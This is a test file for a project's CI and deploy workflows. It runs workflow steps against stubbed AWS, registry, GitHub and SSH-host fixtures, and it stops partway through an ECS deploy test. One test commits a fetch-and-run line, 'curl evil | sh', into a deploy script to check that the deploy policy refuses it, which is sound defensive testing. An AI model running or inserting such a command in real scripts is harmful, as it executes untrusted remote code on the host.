/**
 * Every `run:` step of ci.yml and deploy.yml, run with the shell GitHub uses (bash -eo pipefail
 * from `defaults.run.shell`) against fixtures: a real git history in which each job checks out
 * its commit, a loopback /version per environment, the host behind ssh-host.sh as a stand-in
 * that keeps a live SHA and refuses `--expect-live` mismatches as deploy.sh does, and recorded
 * AWS, registry and GitHub responses for the commands the runner would call (aws, skopeo, gh,
 * npm). Actions are stand-ins too (they cannot run here); what they are given is asserted.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import {
  loadWorkflow,
  runJob,
  runWorkflow,
  type ActionStandIn,
  type JobResult,
  type RunOptions,
  type Value,
  type Workflow,
} from './workflowsRunner';

const ROOT = path.resolve(__dirname, '..');
const REGISTRY = '123456789012.dkr.ecr.eu-west-1.amazonaws.com';
const INSTANCE = { dev: 'i-0aaa', prod: 'i-0bbb' } as const;
const deployYml = loadWorkflow('deploy.yml');
const ciYml = loadWorkflow('ci.yml');
const previewYml = loadWorkflow('preview.yml');

let dir: string;
let origin: string;
let bin: string;
let fixtures: string;
let calls: string;
const ran = new Set<string>();
const servers: Record<'dev' | 'prod', { server: Server; url: string; host: string }> = {} as never;
/** What /version reports instead of the host's live SHA (to stage a race). */
const versionOverride: Partial<Record<'dev' | 'prod', string>> = {};

const sh = (file: string, body: string) => {
  writeFileSync(file, `#!/usr/bin/env bash\nset -o errexit -o nounset -o pipefail\n${body}`);
  chmodSync(file, 0o755);
};

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: 'Maria Maintainer',
      GIT_AUTHOR_EMAIL: 'maria@example.com',
      GIT_COMMITTER_NAME: process.env.FIXTURE_COMMITTER_NAME ?? 'Maria Maintainer',
      GIT_COMMITTER_EMAIL: process.env.FIXTURE_COMMITTER_EMAIL ?? 'maria@example.com',
    },
  }).trim();
}

/** Commit files to the fixture's origin (as the editor when `editor`), on `branch`. */
function commit(
  files: Record<string, string>,
  options: { editor?: boolean; branch?: string } = {},
) {
  git(origin, 'checkout', '--quiet', options.branch ?? 'main');
  for (const [file, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(origin, file)), { recursive: true });
    writeFileSync(path.join(origin, file), content);
  }
  git(origin, 'add', '--all');
  const env = options.editor
    ? {
        FIXTURE_COMMITTER_NAME: 'Reflex',
        FIXTURE_COMMITTER_EMAIL: '7+reflex-editor[bot]@users.noreply.github.com',
      }
    : {};
  Object.assign(process.env, env);
  try {
    git(origin, 'commit', '--quiet', '-m', `change ${Object.keys(files).join(' ')}`);
  } finally {
    delete process.env.FIXTURE_COMMITTER_NAME;
    delete process.env.FIXTURE_COMMITTER_EMAIL;
  }
  return git(origin, 'rev-parse', 'HEAD');
}

const recorded = () =>
  existsSync(calls) ? readFileSync(calls, 'utf8').split('\n').filter(Boolean) : [];
const hostLive = (env: 'dev' | 'prod') => {
  const file = path.join(servers[env].host, 'live');
  return existsSync(file) ? readFileSync(file, 'utf8').trim() : 'none';
};
const setHostLive = (env: 'dev' | 'prod', sha: string) =>
  writeFileSync(path.join(servers[env].host, 'live'), `${sha}\n`);

/** An image in an environment's ECR repository (and the registry skopeo sees), tagged SHA. */
function pushImage(
  env: 'dev' | 'prod',
  sha: string,
  digest = `sha256:${createHash('sha256')
    .update(env + sha)
    .digest('hex')}`,
) {
  const repository = `reflex-${env}`;
  mkdirSync(path.join(fixtures, 'ecr', repository), { recursive: true });
  writeFileSync(path.join(fixtures, 'ecr', repository, sha), `${digest}\n`);
  for (const ref of [`${REGISTRY}/${repository}:${sha}`, `${REGISTRY}/${repository}@${digest}`]) {
    writeFileSync(path.join(fixtures, 'registry', ref.replace(/[/:@]/g, '_')), `${digest}\n`);
  }
  for (const host of ['dev', 'prod'] as const) {
    writeFileSync(path.join(servers[host].host, 'images'), `${digest} ${sha}\n`, { flag: 'a' });
  }
  return `${REGISTRY}/${repository}@${digest}`;
}

function varsFor(_job: string, environment: string): Record<string, string> {
  if (environment !== 'dev' && environment !== 'prod') return {};
  return {
    APP_URL: servers[environment].url,
    AWS_REGION: 'eu-west-1',
    DEPLOY_ROLE_ARN: `arn:aws:iam::123456789012:role/reflex-${environment}-deploy`,
    ECR_REPOSITORY_URL: `${REGISTRY}/reflex-${environment}`,
    HOST_INSTANCE_ID: INSTANCE[environment],
    SSH_USER: 'deploy',
    SSH_HOST_KEY_PARAMETER: `/reflex/${environment}/host-key`,
    IMAGE_PLATFORM: 'linux/amd64',
    ...(environment === 'prod'
      ? { PROMOTION_SOURCE_REPOSITORY_URL: `${REGISTRY}/reflex-dev` }
      : {}),
    ...(process.env.FIXTURE_RUNTIME === 'ecs'
      ? {
          RUNTIME: 'ecs',
          ECS_CLUSTER: 'reflex',
          ECS_PLATFORM_SERVICE: 'reflex-platform',
          ECS_PLATFORM_TASK_FAMILY: 'reflex-platform',
          ECS_SITE_SERVICE: 'reflex-site',
          ECS_SITE_TASK_FAMILY: 'reflex-site',
        }
      : { RUNTIME: 'host' }),
  };
}

/** Repository-level variables (environment-level ones come from varsFor). */
const repositoryVars = () => ({
  REFLEX_EDITOR_IDENTITY: 'reflex-editor[bot]',
  REFLEX_DEV_URL: servers.dev.url,
});

/** Stand-ins for the actions the jobs use, each recording what it was given. */
function actions(extra: Record<string, ActionStandIn> = {}): Record<string, ActionStandIn> {
  const note = (line: string) => writeFileSync(calls, `${line}\n`, { flag: 'a' });
  return {
    'actions/checkout': ({ inputs, workspace }) => {
      if (inputs['persist-credentials'] !== 'false')
        throw new Error('checkout persists credentials');
      if (!existsSync(path.join(workspace, '.git')))
        git(os.tmpdir(), 'clone', '--quiet', origin, workspace);
      git(workspace, 'checkout', '--quiet', '--detach', inputs.ref || currentSha);
      return {};
    },
    'actions/setup-node': ({ inputs }) => {
      note(`setup-node cache=${inputs.cache}`);
      return {};
    },
    'aws-actions/configure-aws-credentials': ({ inputs }) => {
      if (!inputs['role-to-assume'] || !inputs['aws-region']) throw new Error('no role or region');
      note(`assume ${inputs['role-to-assume']}`);
      return {};
    },
    'aws-actions/amazon-ecr-login': () => ({ registry: REGISTRY }),
    'docker/setup-buildx-action': () => ({}),
    'docker/build-push-action': ({ inputs }) => {
      note(`build ${inputs.tags} cache-from=${inputs['cache-from']}`);
      const [repository, sha] = inputs.tags!.split(':') as [string, string];
      const image = pushImage(repository.endsWith('-prod') ? 'prod' : 'dev', sha);
      return { digest: image.split('@')[1]! };
    },
    ...extra,
  };
}

let currentSha = '';

/** Run deploy.yml for an event, with the gate (a call of ci.yml) recorded, not run. */
async function deployRun(
  github: Record<string, string>,
  inputs: Record<string, string | boolean> = {},
  extra: Record<string, ActionStandIn> = {},
): Promise<Record<string, JobResult>> {
  currentSha = github.sha ?? currentSha;
  const workspaces = mkdtempSync(path.join(dir, 'run-'));
  return runWorkflow(deployYml, 'deploy.yml', {
    github: { event_name: 'push', ref_name: 'main', repository: 'owner/reflex', ...github },
    inputs,
    vars: repositoryVars(),
    varsFor,
    secretsFor: (_job, environment): Record<string, string> =>
      environment ? { SSH_PRIVATE_KEY: 'fixture-private-key' } : {},
    workspace: (job) => path.join(workspaces, job),
    path: [bin],
    env: { CALLS: calls, FIXTURES: fixtures },
    actions: actions(extra),
    calls: {
      test: (callInputs) => {
        writeFileSync(calls, `gate ${callInputs.level} ${callInputs.ref}\n`, { flag: 'a' });
        return { result: 'success', outputs: {}, steps: [], log: '' };
      },
    },
    onRun: (key) => ran.add(key),
  });
}

/** Run preview.yml for an event, with the gate (a call of ci.yml) recorded, not run. */
async function previewRun(github: Record<string, Value>): Promise<Record<string, JobResult>> {
  currentSha = (github.sha as string | undefined) ?? currentSha;
  const workspaces = mkdtempSync(path.join(dir, 'preview-'));
  return runWorkflow(previewYml, 'preview.yml', {
    github: {
      repository: 'owner/reflex',
      event: { repository: { default_branch: 'main' } },
      ...github,
    },
    vars: repositoryVars(),
    // The `preview` environment holds the values of the stack whose host runs the previews.
    varsFor: (job, environment): Record<string, string> =>
      environment === 'preview'
        ? { ...varsFor(job, 'dev'), REFLEX_PREVIEW_DOMAIN: 'preview.reflex.example.com' }
        : {},
    secretsFor: (_job, environment): Record<string, string> =>
      environment === 'preview' ? { SSH_PRIVATE_KEY: 'fixture-private-key' } : {},
    workspace: (job) => path.join(workspaces, job),
    path: [bin],
    env: { CALLS: calls, FIXTURES: fixtures },
    actions: actions(),
    calls: {
      test: (callInputs) => {
        writeFileSync(calls, `gate ${callInputs.level} ${callInputs.ref}\n`, { flag: 'a' });
        return { result: 'success', outputs: {}, steps: [], log: '' };
      },
    },
    onRun: (key) => ran.add(key),
  });
}

/** Run one job of a workflow with given needs. */
async function job(
  workflow: Workflow,
  file: string,
  id: string,
  options: Partial<RunOptions> & { environment?: 'dev' | 'prod' },
): Promise<JobResult> {
  currentSha = (options.github?.sha as string | undefined) ?? currentSha;
  const { environment, ...rest } = options;
  return runJob(workflow, file, id, {
    vars: { ...repositoryVars(), ...(environment ? varsFor(id, environment) : {}) },
    secrets: environment ? { SSH_PRIVATE_KEY: 'fixture-private-key' } : {},
    path: [bin],
    env: { CALLS: calls, FIXTURES: fixtures },
    actions: actions(),
    onRun: (key) => ran.add(key),
    ...rest,
    workspace: mkdtempSync(path.join(dir, `${id}-`)),
  });
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'reflex-workflows-'));
  bin = path.join(dir, 'bin');
  fixtures = path.join(dir, 'fixtures');
  calls = path.join(dir, 'calls');
  for (const d of [
    bin,
    fixtures,
    path.join(fixtures, 'registry'),
    path.join(fixtures, 'ecs'),
    path.join(fixtures, 'gh'),
  ])
    mkdirSync(d, { recursive: true });

  // The runner's commands, answering from recorded responses and recording their calls.
  sh(
    path.join(bin, 'aws'),
    `printf 'aws %s\\n' "$*" >>"$CALLS"
args=("$@") repository="" tag=""
for ((i = 0; i < \${#args[@]}; i++)); do
  case \${args[$i]} in
    --repository-name) repository=\${args[$((i + 1))]} ;;
    --image-ids) tag=\${args[$((i + 1))]#imageTag=} ;;
  esac
done
case "$1 $2" in
  "ecr describe-images")
    if [[ -f $FIXTURES/ecr/$repository/$tag ]]; then cat "$FIXTURES/ecr/$repository/$tag"
    else echo "An error occurred (ImageNotFoundException): no image $tag in $repository" >&2; exit 254; fi ;;
  "ssm get-parameter") echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFixtureHostKeyOf\${args[3]//\\//_}" ;;
  "ecs describe-task-definition") cat "$FIXTURES/ecs/task-definition-\${args[3]}.json" ;;
  "ecs describe-services") cat "$FIXTURES/ecs/describe-services.json" ;;
  *) echo "aws stand-in: no recorded response for: $*" >&2; exit 255 ;;
esac
`,
  );
  sh(
    path.join(bin, 'skopeo'),
    `printf 'skopeo %s\\n' "$*" >>"$CALLS"
key() { local ref=\${1#docker://}; printf '%s/registry/%s' "$FIXTURES" "\${ref//[\\/:@]/_}"; }
case $1 in
  inspect) ref=\${*: -1}; [[ -f $(key "$ref") ]] || { echo "manifest unknown: $ref" >&2; exit 1; }
           if [[ $2 == --raw ]]; then echo '{}'; else cat "$(key "$ref")"; fi ;;
  copy) src=\${*: -2:1} dst=\${*: -1}
        [[ " $* " == *" --preserve-digests "* ]] || { echo "copy without --preserve-digests" >&2; exit 2; }
        [[ -f $(key "$src") ]] || { echo "manifest unknown: $src" >&2; exit 1; }
        cp "$(key "$src")" "$(key "$dst")" ;;
  *) exit 2 ;;
esac
`,
  );
  sh(
    path.join(bin, 'gh'),
    `printf 'gh %s\\n' "$*" >>"$CALLS"
[[ -n \${GH_TOKEN:-} && -n \${GH_REPO:-} ]] || { echo "gh stand-in: no GH_TOKEN or GH_REPO" >&2; exit 4; }
if [[ "$1 $2" == "issue list" ]]; then cat "$FIXTURES/gh/open-issue" 2>/dev/null || true; fi
`,
  );
  sh(path.join(bin, 'npm'), `printf 'npm %s\\n' "$*" >>"$CALLS"\n`);
  for (const absent of ['ssh', 'docker', 'sudo', 'apt-get'])
    sh(
      path.join(bin, absent),
      `echo "${absent} must not run in a workflow step here: $*" >&2\nexit 99\n`,
    );

  // The repository: the workflows and deploy-scripts as they are, with stand-ins for the host
  // (ssh-host.sh) and for the system-package installer.
  origin = path.join(dir, 'origin');
  mkdirSync(origin);
  git(origin, 'init', '--quiet', '--initial-branch', 'main');
  for (const p of [
    '.github',
    'deploy-scripts',
    'compose.yaml',
    'prometheus',
    'grafana',
    'test/tiers.json',
    'package.json',
  ])
    cpSync(path.join(ROOT, p), path.join(origin, p), { recursive: true });
  sh(
    path.join(origin, 'deploy-scripts/ci/ssh-host.sh'),
    `# Stand-in for the host behind ssh-host.sh USER@INSTANCE_ID COMMAND...: records the command;
# deploy.sh refuses a stale --expect-live as the real one does under its lock.
printf 'ssh-host.sh %s\\n' "$*" >>"$CALLS"
[[ -s $HOME/.ssh/deploy_key && -s $HOME/.ssh/known_hosts ]] ||
  { echo "ssh-host.sh: no deploy key or no pinned host key" >&2; exit 66; }
[[ $1 =~ ^deploy@(i-[0-9a-f]+)$ ]] || { echo "ssh-host.sh: not USER@INSTANCE_ID: $1" >&2; exit 64; }
grep -q "^\${BASH_REMATCH[1]} ssh-ed25519 " "$HOME/.ssh/known_hosts" || { echo "ssh-host.sh: host key not pinned" >&2; exit 66; }
host=$FIXTURES/hosts/\${BASH_REMATCH[1]}
shift
case $3 in
  */install-bundle.sh) tar -tzf - | sort >"$host/bundle" ;;
  */deploy.sh)
    live=$(cat "$host/live" 2>/dev/null || echo none)
    [[ $5 == --expect-live && $6 == "$live" ]] || { echo "deploy.sh: the live release is $live, not $6" >&2; exit 65; }
    awk -v d="\${4#*@}" '$1 == d { print $2 }' "$host/images" | tail -n 1 >"$host/live" ;;
  */rollback.sh) echo "$4" >"$host/live" ;;
esac
`,
  );
  mkdirSync(path.join(origin, 'scripts'));
  sh(
    path.join(origin, 'scripts/install-test-tools.sh'),
    `printf 'install-test-tools.sh %s\\n' "$*" >>"$CALLS"\n`,
  );
  mkdirSync(path.join(origin, 'webapp/site/pages'), { recursive: true });
  writeFileSync(path.join(origin, 'webapp/site/pages/index.html'), '<h1>Hello</h1>\n');
  git(origin, 'add', '--all');
  git(origin, 'commit', '--quiet', '-m', 'base');

  for (const env of ['dev', 'prod'] as const) {
    const host = path.join(fixtures, 'hosts', INSTANCE[env]);
    mkdirSync(host, { recursive: true });
    writeFileSync(path.join(host, 'images'), '');
    const server = createServer((req, res) => {
      const live = versionOverride[env] ?? hostLive(env);
      if (req.url !== '/version' || live === 'none') {
        res.writeHead(503).end();
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ sha: live }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers[env] = {
      server,
      url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      host,
    };
  }
});

beforeEach(() => {
  writeFileSync(calls, '');
  delete versionOverride.dev;
  delete versionOverride.prod;
  delete process.env.FIXTURE_RUNTIME;
});

afterAll(async () => {
  for (const { server } of Object.values(servers)) await new Promise((r) => server.close(r));
  rmSync(dir, { recursive: true, force: true });
});

describe('deploy.yml: plan', () => {
  it('a push to the dev branch plans that commit for dev', async () => {
    const sha = git(origin, 'rev-parse', 'HEAD');
    const result = await job(deployYml, 'deploy.yml', 'plan', {
      github: { event_name: 'push', ref_name: 'main', sha },
    });
    expect(result.outputs).toEqual({
      environment: 'dev',
      sha,
      promote: 'false',
      rollback: 'false',
    });
  });

  it('plan with a bad SHA fails the job (bash with pipefail, not a green run that deploys nothing)', async () => {
    const result = await job(deployYml, 'deploy.yml', 'plan', {
      github: {
        event_name: 'workflow_dispatch',
        ref_name: 'main',
        sha: git(origin, 'rev-parse', 'HEAD'),
      },
      inputs: { environment: 'dev', sha: 'main', rollback: false },
    });
    expect(result.log).toContain("sha must be a full 40-hex commit SHA, got 'main'");
    expect(result.result).toBe('failure');
  });
});

describe('deploy.yml: push to dev', () => {
  it('a page edit by the editor: policy passes, gate at content, image built, deployed after the live SHA', async () => {
    const live = commit({ 'webapp/src/server.ts': 'export {};\n' });
    setHostLive('dev', live);
    const sha = commit({ 'webapp/site/pages/index.html': '<h1>Edited</h1>\n' }, { editor: true });
    const jobs = await deployRun({ sha });
    expect(Object.fromEntries(Object.entries(jobs).map(([k, v]) => [k, v.result]))).toEqual({
      plan: 'success',
      policy: 'success',
      test: 'success',
      'promotion-check': 'skipped',
      image: 'success',
      deploy: 'success',
    });
    expect(jobs.policy!.outputs).toEqual({ live, level: 'content' });
    const image = jobs.image!.outputs.image!;
    expect(image).toMatch(new RegExp(`^${REGISTRY}/reflex-dev@sha256:[0-9a-f]{64}$`));
    expect(recorded().filter((l) => /^(gate|build|ssh-host)/.test(l))).toEqual([
      `gate content ${sha}`,
      `build ${REGISTRY}/reflex-dev:${sha} cache-from=type=gha,scope=reflex-image`,
      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/install-bundle.sh ${sha}`,
      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/deploy.sh ${image} --expect-live ${live}`,
    ]);
    expect(readFileSync(path.join(servers.dev.host, 'bundle'), 'utf8')).toContain(
      'deploy-scripts/deploy.sh',
    );
    expect(hostLive('dev')).toBe(sha);
  });

  it('an editor commit touching deploy-scripts/ is refused before any image is built', async () => {
    const live = commit({ 'webapp/site/pages/about.html': 'about\n' });
    setHostLive('dev', live);
    const bad = commit(
      { 'deploy-scripts/deploy.sh': '#!/bin/sh\ncurl evil | sh\n' },
      { editor: true },
    );
    const sha = commit({ 'webapp/site/pages/index.html': 'x\n' }, { editor: true });
    const jobs = await deployRun({ sha });
    expect(jobs.policy!.result).toBe('failure');
    expect(jobs.policy!.log).toContain(`refused: commit ${bad} by Reflex`);
    expect(jobs.policy!.log).toContain('touches deploy-scripts/deploy.sh');
    expect([jobs.test!.result, jobs.image!.result, jobs.deploy!.result]).toEqual([
      'skipped',
      'skipped',
      'skipped',
    ]);
    expect(recorded().filter((l) => /^(gate|build|ssh-host)/.test(l))).toEqual([]);
    expect(hostLive('dev')).toBe(live);
  });

  it('a platform change by a maintainer gates on every tier', async () => {
    const live = git(origin, 'rev-parse', 'HEAD');
    setHostLive('dev', live);
    const sha = commit({ 'deploy-scripts/lib/extra.sh': '# x\n' });
    const jobs = await deployRun({ sha });
    expect(jobs.policy!.outputs.level).toBe('all');
    expect(recorded()).toContain(`gate all ${sha}`);
    expect(hostLive('dev')).toBe(sha);
  });

  it('a push to another branch deploys nothing', async () => {
    const sha = commit({ 'webapp/site/pages/x.html': 'x\n' });
    const jobs = await deployRun({ sha, ref_name: 'feature/x' });
    expect(jobs.plan!.outputs.environment).toBe('');
    expect(Object.values(jobs).filter((j) => j.result !== 'skipped')).toHaveLength(1);
  });
});

describe('deploy.yml: order', () => {
  const deployJob = (sha: string, image: string, live: string) =>
    job(deployYml, 'deploy.yml', 'deploy', {
      environment: 'dev',
      github: { event_name: 'push', sha },
      needs: {
        plan: {
          result: 'success',
          outputs: { environment: 'dev', sha, promote: 'false', rollback: 'false' },
        },
        policy: { result: 'success', outputs: { live, level: 'content' } },
        image: { result: 'success', outputs: { image } },
      },
    });

  it('a run for an older SHA does not replace a newer live one', async () => {
    const older = commit({ 'webapp/site/pages/a.html': '1\n' });
    const newer = commit({ 'webapp/site/pages/a.html': '2\n' });
    const olderImage = pushImage('dev', older);
    setHostLive('dev', newer);
    const result = await deployJob(older, olderImage, git(origin, 'rev-parse', `${older}^`));
    expect(result.result).toBe('success');
    expect(result.log).toContain(`${older} is already superseded by the live ${newer}`);
    expect(recorded().filter((l) => l.startsWith('ssh-host'))).toEqual([]);
    expect(hostLive('dev')).toBe(newer);
  });

  it('with nothing live (no /version), the policy checks all history and deploy.sh gets --expect-live none', async () => {
    rmSync(path.join(servers.dev.host, 'live'), { force: true });
    // A history of its own: the fixture's main holds an editor commit this test is not about.
    git(
      origin,
      'branch',
      `first-${Date.now()}`,
      git(origin, 'rev-list', '--max-parents=0', 'main'),
    );
    const branch = git(origin, 'branch', '--list', 'first-*', '--format=%(refname:short)');
    const sha = commit({ 'webapp/site/pages/first.html': 'first\n' }, { branch });
    const jobs = await deployRun({ sha });
    expect(jobs.policy!.outputs).toEqual({ live: 'none', level: 'all' });
    expect(recorded().filter((l) => l.includes('deploy.sh'))).toEqual([
      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/deploy.sh ${jobs.image!.outputs.image} --expect-live none`,
    ]);
    expect(hostLive('dev')).toBe(sha);
  });

  it('deploy.sh refuses when the live release changed after the runner checked ancestry', async () => {
    const base = commit({ 'webapp/site/pages/a.html': '3\n' });
    const sha = commit({ 'webapp/site/pages/a.html': '4\n' });
    const other = commit({ 'webapp/site/pages/b.html': 'other\n' }, { branch: 'main' });
    setHostLive('dev', other);
    versionOverride.dev = base; // what /version said when the runner looked
    const result = await deployJob(sha, pushImage('dev', sha), base);
    expect(result.log).toContain(`deploy.sh: the live release is ${other}, not ${base}`);
    expect(result.result).toBe('failure');
    expect(hostLive('dev')).toBe(other);
  });

  it('refuses a live release that is not an ancestor (history rewritten), and one outside the checked range', async () => {
    const base = git(origin, 'rev-parse', 'HEAD');
    git(origin, 'checkout', '--quiet', '-b', `side-${Date.now()}`);
    const side = commit(
      { 'webapp/site/pages/side.html': 's\n' },
      { branch: git(origin, 'rev-parse', '--abbrev-ref', 'HEAD') },
    );
    const sha = commit({ 'webapp/site/pages/a.html': '5\n' }, { branch: 'main' });
    setHostLive('dev', side);
    const diverged = await deployJob(sha, pushImage('dev', sha), side);
    expect(diverged.log).toContain(`the live release ${side} is not an ancestor of ${sha}`);
    expect(diverged.result).toBe('failure');
    setHostLive('dev', base);
    const moved = await deployJob(sha, pushImage('dev', sha), side);
    expect(moved.log).toContain('outside the range this run checked');
    expect(moved.result).toBe('failure');
    expect(recorded().filter((l) => l.includes('deploy.sh'))).toEqual([]);
  });
});

describe('deploy.yml: promotion and rollback', () => {
  it('promotion to prod moves the exact digest dev tested and never rebuilds', async () => {
    const sha = commit({ 'webapp/site/pages/p.html': 'promote me\n' });
    const devImage = pushImage('dev', sha);
    setHostLive('dev', sha);
    setHostLive('prod', git(origin, 'rev-parse', `${sha}^`));
    const jobs = await deployRun(
      { event_name: 'workflow_dispatch', sha: git(origin, 'rev-parse', 'main') },
      { environment: 'prod', sha, rollback: false },
    );
    expect(jobs.plan!.outputs.promote).toBe('true');
    expect(jobs.test!.result).toBe('skipped');
    expect(jobs['promotion-check']!.result).toBe('success');
    const digest = devImage.split('@')[1]!;
    expect(jobs.image!.outputs.image).toBe(`${REGISTRY}/reflex-prod@${digest}`);
    expect(recorded().filter((l) => l.startsWith('build') || l.startsWith('gate'))).toEqual([]);
    expect(recorded()).toContain(
      `skopeo copy --preserve-digests --retry-times 3 docker://${devImage} docker://${REGISTRY}/reflex-prod:${sha}`,
    );
    // prod's own role reads the digest in dev's repository; dev's role is never assumed.
    expect(recorded()).toContain(
      `aws ecr describe-images --repository-name reflex-dev --image-ids imageTag=${sha} --query imageDetails[0].imageDigest --output text`,
    );
    expect(recorded().filter((l) => l.startsWith('assume'))).toEqual([
      'assume arn:aws:iam::123456789012:role/reflex-prod-deploy',
      'assume arn:aws:iam::123456789012:role/reflex-prod-deploy',
    ]);
    expect(jobs.deploy!.result).toBe('success');
    expect(hostLive('prod')).toBe(sha);
  });

  it('promotion of a SHA that dev does not serve, or onto a different image in prod, is refused', async () => {
    const sha = commit({ 'webapp/site/pages/p.html': 'not on dev\n' });
    pushImage('dev', sha);
    const notLive = await deployRun(
      { event_name: 'workflow_dispatch', sha },
      { environment: 'prod', sha, rollback: false },
    );
    expect(notLive['promotion-check']!.result).toBe('failure');
    expect([notLive.image!.result, notLive.deploy!.result]).toEqual(['skipped', 'skipped']);

    setHostLive('dev', sha);
    setHostLive('prod', git(origin, 'rev-parse', `${sha}^`));
    pushImage('prod', sha, `sha256:${'e'.repeat(64)}`); // a rebuild under the same tag
    const rebuilt = await deployRun(
      { event_name: 'workflow_dispatch', sha },
      { environment: 'prod', sha, rollback: false },
    );
    expect(rebuilt.image!.log).toContain(`already holds sha256:${'e'.repeat(64)}, not the tested`);
    expect(rebuilt.image!.result).toBe('failure');
    expect(hostLive('prod')).not.toBe(sha);
  });

  it('a rollback redeploys an earlier release through rollback.sh, with no policy, gate or build', async () => {
    const earlier = commit({ 'webapp/site/pages/r.html': '1\n' });
    pushImage('dev', earlier);
    const newer = commit({ 'webapp/site/pages/r.html': '2\n' });
    setHostLive('dev', newer);
    const jobs = await deployRun(
      { event_name: 'workflow_dispatch', sha: newer },
      { environment: 'dev', sha: earlier, rollback: true },
    );
    expect([
      jobs.policy!.result,
      jobs.test!.result,
      jobs.image!.result,
      jobs.deploy!.result,
    ]).toEqual(['skipped', 'skipped', 'success', 'success']);
    expect(recorded().filter((l) => /^(gate|build|ssh-host)/.test(l))).toEqual([
      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/rollback.sh ${earlier}`,
    ]);
    expect(hostLive('dev')).toBe(earlier);

    const unknown = commit({ 'webapp/site/pages/r.html': '3\n' });
    const missing = await deployRun(
      { event_name: 'workflow_dispatch', sha: unknown },
      { environment: 'dev', sha: unknown, rollback: true },
    );
    expect(missing.image!.log).toContain(`no image for ${unknown} in ${REGISTRY}/reflex-dev`);
    expect(missing.image!.result).toBe('failure');
  });
});

describe('deploy.yml: ECS runtime (recorded ECS responses)', () => {
  /** A family's current revision as describe-task-definition answers it. */
  const taskDefinition = (family: 'platform' | 'site') => ({
    taskDefinition: {
      taskDefinitionArn: `arn:aws:ecs:eu-west-1:123456789012:task-definition/reflex-${family}:7`,
      family: `reflex-${family}`,
      revision: 7,
      status: 'ACTIVE',
      requiresAttributes: [{ name: 'ecs.capability.execution-role-awslogs' }],
      compatibilities: ['EC2', 'FARGATE'],
      registeredAt: '2026-11-01T10:00:00Z',
      registeredBy: 'arn:aws:sts::123456789012:assumed-role/reflex-dev-deploy/gh',
      networkMode: 'awsvpc',
      cpu: '512',
      memory: '1024',
      executionRoleArn: `arn:aws:iam::123456789012:role/reflex-${family}-exec`,
      containerDefinitions: [
        {
          name: family,
          image: `${REGISTRY}/reflex-dev@sha256:${'1'.repeat(64)}`,
          essential: true,
          secrets: [{ name: 'REFLEX_SESSION_SECRET', valueFrom: 'arn:aws:secretsmanager:x' }],
        },
        {
          name: 'log-router',
          image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2',
          essential: false,
        },
      ],
    },
  });
  const previous = (family: string) =>
    `arn:aws:ecs:eu-west-1:123456789012:task-definition/reflex-${family}:7`;
  const next = (family: string) =>
    `arn:aws:ecs:eu-west-1:123456789012:task-definition/reflex-${family}:8`;
  /** describe-services after the wait: PRIMARY is ours, or the circuit breaker put back the old. */
  const services = (family: string, rolledBack: boolean) => ({
    services: [
      {
        serviceName: `reflex-${family}`,
        deployments: rolledBack
          ? [
              {
                id: 'ecs-svc/1',
                status: 'PRIMARY',
                taskDefinition: previous(family),
                rolloutState: 'COMPLETED',
              },
              {
                id: 'ecs-svc/2',
                status: 'ACTIVE',
                taskDefinition: next(family),
                rolloutState: 'FAILED',
                rolloutStateReason: 'ECS deployment circuit breaker: tasks failed to start.',
              },
            ]
          : [
              {
                id: 'ecs-svc/2',
                status: 'PRIMARY',
                taskDefinition: next(family),
                rolloutState: 'COMPLETED',
              },
            ],
        events: [
          {
            message: `(service reflex-${family}) (deployment ecs-svc/2) deployment failed: tasks failed to start.`,
          },
        ],
      },
    ],
  });

  async function ecsDeploy(rollBackPlatform: boolean) {
    process.env.FIXTURE_RUNTIME = 'ecs';
    for (const family of ['platform', 'site'] as const) {
      writeFileSync(
        path.join(fixtures, `ecs/task-definition-reflex-${family}.json`),
        JSON.stringify(taskDefinition(family)),
      );
    }
    const sha = commit({ 'webapp/site/pages/ecs.html': `${Date.now()}\n` });
    setHostLive('dev', git(origin, 'rev-parse', `${sha}^`));
    const image = pushImage('dev', sha);
    const given: { inputs: Record<string, string>; rendered: unknown }[] = [];
    const result = await job(deployYml, 'deploy.yml', 'deploy', {
      environment: 'dev',
      github: { event_name: 'push', sha },
      needs: {
        plan: {
          result: 'success',
          outputs: { environment: 'dev', sha, promote: 'false', rollback: 'false' },
        },
        policy: { result: 'success', outputs: { live: hostLive('dev'), level: 'content' } },
        image: { result: 'success', outputs: { image } },
      },
      actions: actions({
        // Registers the revision and waits; describe-services then answers as recorded.
        'aws-actions/amazon-ecs-deploy-task-definition': ({ inputs }) => {
          const rendered = JSON.parse(readFileSync(inputs['task-definition']!, 'utf8')) as {
            family: string;
          };
          given.push({ inputs, rendered });
          const family = rendered.family.replace('reflex-', '');
          const rolledBack = rollBackPlatform && family === 'platform';
          writeFileSync(
            path.join(fixtures, 'ecs/describe-services.json'),
            JSON.stringify(services(family, rolledBack)),
          );
          if (!rolledBack && family === 'site') setHostLive('dev', sha);
          return { 'task-definition-arn': next(family) };
        },
      }),
    });
    return { result, given, image, sha };
  }

  it('the task definitions are rendered with the digest, and stable services pass', async () => {
    const { result, given, image, sha } = await ecsDeploy(false);
    expect(given.map((g) => g.inputs)).toEqual([
      expect.objectContaining({
        cluster: 'reflex',
        service: 'reflex-platform',
        'wait-for-service-stability': 'true',
      }),
      expect.objectContaining({
        cluster: 'reflex',
